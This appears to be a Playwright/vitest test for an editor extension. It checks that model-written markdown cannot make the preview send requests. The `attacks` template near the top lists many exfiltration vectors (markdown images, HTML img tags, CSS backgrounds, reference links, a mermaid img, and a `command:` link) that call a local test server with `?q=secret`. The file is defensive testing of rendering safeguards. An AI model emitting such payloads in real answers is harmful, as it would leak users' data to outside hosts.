import { once } from 'node:events';
import { mkdir, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { askServer, endOfText, visibleText } from '../host/asking';
import { chooseColorTheme, colorThemes } from '../host/colorTheme';
import { withEvidence } from '../host/evidence';
import { copyFixtureWorkspace } from '../host/fixtureWorkspace';
import { projectFolder, type TemporaryFolder, temporaryFolder } from '../host/folders';
import { type ModelServer, startModelServer } from '../host/modelServer';
import { testResultsFolder } from '../host/testCounts';
import { openWorkbench, type Workbench } from '../host/workbench';

let temporary: TemporaryFolder;
let model: ModelServer;
let listener: Server;
let workbench: Workbench;
let origin: string;
/** What was asked of the server that a picture leads to. */
const asked: string[] = [];

/** What a model was made to write: each of it would send something as soon as it is rendered. */
const attacks = (url: string) => `# Levels

![](${url}/inline?q=secret) and ![x][ref] and [![y](${url}/linked)](https://example.com/)

<img src="${url}/html?q=secret"> <IMG
SRC=${url}/upper>

<div style="background: url(${url}/style)">x</div>

- \`a
- ![z](${url}/item)
- b\`

| a |
| --- |
| \`c | ![t](${url}/cell) | d\` |

> \`\`\`
> code
![u](${url}/quote)

\`\`\`mermaid
graph TD
  A["<img src='${url}/diagram'>"] --> B
\`\`\`

[ref]: ${url}/reference?q=secret

[a command](command:workbench.action.files.newUntitledFile), \`Map<string>\` in code, and src/gauge.py:5.
`;

beforeAll(async () => {
  temporary = await temporaryFolder('shown-safely');
  listener = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'image/svg+xml' });
    response.end('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>');
  }).listen(0, '127.0.0.1');
  await once(listener, 'listening');
  origin = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  model = await startModelServer(() => {
    return `\`\`\`repl\nFINAL(${JSON.stringify(attacks(origin))})\n\`\`\``;
  });
  const folder = await copyFixtureWorkspace(temporary.path);
  await writeFile(join(folder, 'control.md'), `${attacks(origin)}\nEnd of the control.\n`);
  workbench = await openWorkbench({
    folder,
    extensions: [projectFolder],
    settings: {
      'workbench.colorTheme': 'Default Dark Modern',
      'workbench.reduceMotion': 'on',
      'editor.minimap.enabled': false,
      'fathom.model': 'gpt-5',
      'fathom.subModel': 'gpt-5',
      'fathom.kernel': 'native',
      'fathom.directAnswers': false,
    },
    machineSettings: { 'fathom.baseUrl': model.url },
    size: { width: 1360, height: 900 },
  });
});

afterAll(async () => {
  await workbench?.[Symbol.asyncDispose]();
  await model?.close();
  listener?.close();
  await temporary?.[Symbol.asyncDispose]();
});

const preview = () =>
  workbench.page.frameLocator('iframe.webview.ready').frameLocator('#active-frame');

async function keepPicture(name: string): Promise<void> {
  await mkdir(testResultsFolder, { recursive: true });
  await workbench.page.screenshot({ path: join(testResultsFolder, `shown-safely-${name}.png`) });
}

test('a preview of the same text, as it is, sends what it says', async () => {
  await withEvidence(workbench, 'shown-control', async ({ page }) => {
    await workbench.runCommand('Go to File...');
    const box = page.locator('.quick-input-widget input[type="text"]').first();
    await box.fill('control.md');
    await page
      .locator('.quick-input-list .monaco-list-row', { hasText: 'control.md' })
      .first()
      .waitFor();
    await page.keyboard.press('Enter');
    await page.locator('.tabs-container .tab.active', { hasText: 'control.md' }).waitFor();
    await workbench.runCommand('Markdown: Open Preview');
    await preview().locator('p', { hasText: 'End of the control.' }).waitFor();
    await workbench.runCommand('Markdown: Change Preview Security Settings');
    await page
      .locator('.quick-input-list .monaco-list-row', { hasText: 'Allow insecure local content' })
      .click();
    await expect.poll(() => asked.join('\n'), { timeout: 30_000 }).toContain('/inline?q=secret');
    await expect.poll(() => asked.join('\n')).toContain('/html?q=secret');
    await expect.poll(() => asked.join('\n')).toContain('/reference?q=secret');
    await keepPicture('control');
    await workbench.runCommand('View: Close All Editors');
  });
});

test('an answer sends nothing, in the editor and in the preview', async () => {
  await withEvidence(workbench, 'shown-answer', async ({ page }) => {
    asked.length = 0;
    await askServer(workbench, 'How high is the water?');
    await expect.poll(() => endOfText(page), { timeout: 60_000 }).toContain('Run log:');
    await page.keyboard.press('ControlOrMeta+Home');
    await expect.poll(() => visibleText(page)).toContain('!\\[]\\(http');
    await keepPicture('answer');
    await workbench.runCommand('Markdown: Open Preview');
    await preview().locator('p', { hasText: 'Run log:' }).waitFor();
    // What would have loaded has been asked for once a picture of the page's own server is there.
    await preview()
      .locator('body')
      .evaluate(async (body, url) => {
        const own = body.ownerDocument.createElement('img');
        const loaded = new Promise((resolve) => {
          own.onload = resolve;
          own.onerror = resolve;
        });
        own.src = `${url}/last`;
        body.append(own);
        await loaded;
        own.remove();
      }, origin);
    expect(asked).toEqual(['/last']);
    expect(await preview().locator('main img, .markdown-body img, p img').count()).toBe(0);
    expect(await preview().locator('a[href^="command:"]').count()).toBe(0);
    expect(await preview().locator('code', { hasText: 'Map<string>' }).count()).toBe(1);
    for (const theme of colorThemes) {
      await chooseColorTheme(workbench, theme);
      await preview().locator(`body.vscode-${theme.kind}`).waitFor();
      await keepPicture(`preview-${theme.kind}`);
    }
    expect(asked).toEqual(['/last']);
    await preview().locator('a', { hasText: 'src/gauge.py:5' }).first().click();
    await page.locator('.tabs-container .tab.active', { hasText: 'gauge.py' }).waitFor();
  });
});
